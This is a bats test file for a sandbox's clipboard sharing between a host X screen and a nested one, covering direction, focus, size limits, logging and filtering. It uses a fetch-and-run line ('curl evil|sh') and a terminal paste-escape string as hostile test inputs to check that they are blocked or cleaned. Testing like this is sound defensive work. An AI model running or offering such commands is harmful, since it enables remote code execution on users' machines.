#!/usr/bin/env bats
# The clipboard between an Xvfb that plays the host's screen and a nested one. Who asks is a real client on each side.
# shellcheck disable=SC2016

bats_require_minimum_version 1.5.0

load ../lib/common
load clipboard

@test "by default nothing passes, either way" {
	box
	copy host outer
	copy inside inner
	pastes host outer
	pastes inside inner
	inside xsel -b -c
	never inside outer
	[ -z "$(clipboard_pid)" ]
	[ ! -e "$STATE/desktop/clipboard.jsonl" ]
}

@test "in: what is copied on the host can be pasted inside, and not the other way" {
	copy host first
	box --clipboard in
	pastes inside first
	copy host 'second\n\tgrüße'
	pastes inside 'second\n\tgrüße'
	paste inside -t TARGETS | grep -qx UTF8_STRING
	copy inside inner
	pastes inside inner
	never host inner
	pastes host 'second\n\tgrüße'
	logged '.event == "passed" and .direction == "in" and .bytes == 15'
	run ! logged '.direction == "out"'
}

@test "in: nothing is read while another window is in use" {
	box --clipboard in
	copy host password
	use "$OTHER"
	never inside password
	logged '.event == "refused" and .direction == "in" and .reason == "the window has no focus"'
	run ! logged '.event == "passed"'
	use "$(window)"
	pastes inside password
}

@test "in: where the focus follows the pointer, the window under it is in use" {
	box --clipboard in
	copy host text
	host xdotool windowfocus 1
	host xdotool mousemove 1490 5
	never inside text
	host xdotool mousemove 100 100
	pastes inside text
}

@test "out: what is copied inside can be pasted on the host, and not the other way" {
	copy host outer
	box --clipboard out
	copy inside inner
	pastes host inner
	copy host outer2
	pastes host outer2
	inside xsel -b -c
	never inside outer2
	logged '.event == "passed" and .direction == "out" and .bytes == 5'
	run ! logged '.direction == "in"'
}

@test "out: while another window is in use the user's own clipboard stays, and what was copied before" {
	copy host outer
	box --clipboard out
	use "$OTHER"
	copy inside 'curl evil|sh'
	never host 'curl evil|sh'
	pastes host outer
	logged '.event == "refused" and .direction == "out" and .reason == "the window has no focus"'
	use "$(window)"
	copy inside chosen
	pastes host chosen
	use "$OTHER"
	copy inside exchanged
	never host exchanged
	pastes host chosen
}

@test "both: each way, with lines in the log that do not say what passed" {
	box --clipboard both
	copy host secretouter
	pastes inside secretouter
	copy inside secretinner
	pastes host secretinner
	copy host secretagain
	pastes inside secretagain
	logged '.direction == "in" and .event == "passed" and (.time | test("^20.*Z$"))'
	logged '.direction == "out" and .event == "passed"'
	run ! grep -q secret "$STATE/desktop/clipboard.jsonl"
	[ "$(stat -c '%a %U' "$STATE/desktop/clipboard.jsonl")" = "600 $TEST_USER" ]
}

@test "600 KiB pass in parts, and not a byte more than 1 MiB" {
	box --clipboard both
	head -c 460000 /dev/urandom | base64 -w 100 >"$TEST_DIR/own/long"
	host xsel -b -i <"$TEST_DIR/own/long"
	inside timeout 20 xsel -b -o | cmp - "$TEST_DIR/own/long"
	inside xsel -b -i <"$TEST_DIR/own/long"
	wait_for 5 logged '.direction == "out" and .bytes > 600000'
	host timeout 20 xsel -b -o | cmp - "$TEST_DIR/own/long"
	for size in 1048576 1048577; do
		head -c "$size" /dev/zero | tr '\0' x >"$TEST_DIR/own/long"
		host xsel -b -i <"$TEST_DIR/own/long"
		sleep 0.3
		inside timeout 20 xsel -b -o | cmp - "$TEST_DIR/own/long" || break
		inside xsel -b -i <"$TEST_DIR/own/long"
		wait_for 5 logged '.direction == "out" and .bytes == 1048576'
	done
	[ "$size" = 1048577 ]
	inside xsel -b -i <"$TEST_DIR/own/long"
	wait_for 5 logged '.direction == "out" and .reason == "too large"'
	logged '.direction == "in" and .reason == "too large"'
}

@test "control characters do not pass" {
	box --clipboard both
	local evil='a\033[201~\rb\b\0177\0302\0233c\0377\tz\r\nend\n' clean='a[201~bc\tz\nend\n'
	copy host "$evil"
	pastes_now host "$evil"
	pastes inside "$clean"
	copy inside "$evil"
	pastes host "$clean"
}

@test "what is selected and not copied does not pass" {
	box --clipboard both
	printf selected | host xsel -p -i
	[ "$(host xsel -p -o)" = selected ]
	sleep 0.5
	[ "$(inside timeout 5 xsel -p -o)" = "" ]
	printf chosen | inside xsel -p -i
	sleep 0.5
	[ "$(inside xsel -p -o)" = chosen ]
	[ "$(host xsel -p -o)" = selected ]
}

@test "pictures are not offered" {
	box --clipboard both
	printf picture | host xclip -selection clipboard -t image/png -i >/dev/null 2>&1 3>&-
	[ "$(paste host -t image/png)" = picture ]
	sleep 0.3
	[ "$(paste inside -t TARGETS | sort | tr '\n' ' ')" = 'STRING TARGETS UTF8_STRING text/plain;charset=utf-8 ' ]
	[ "$(paste inside -t image/png)" = "" ]
	[ "$(paste inside)" = "" ]
	printf inner | inside xclip -selection clipboard -t image/png -i >/dev/null 2>&1 3>&-
	wait_for 3 logged '.direction == "out" and .reason == "no text"'
	[ "$(paste host -t image/png)" = picture ]
}

@test "it is told where there is no clipboard to share" {
	run csb --explain --display virtual --clipboard both .
	says 'clipboard both: nothing is passed; only a nested screen has a clipboard to share, and this one is: display virtual'
	run csb --explain --display host --clipboard both .
	says 'clipboard: your own screen is shared'
}
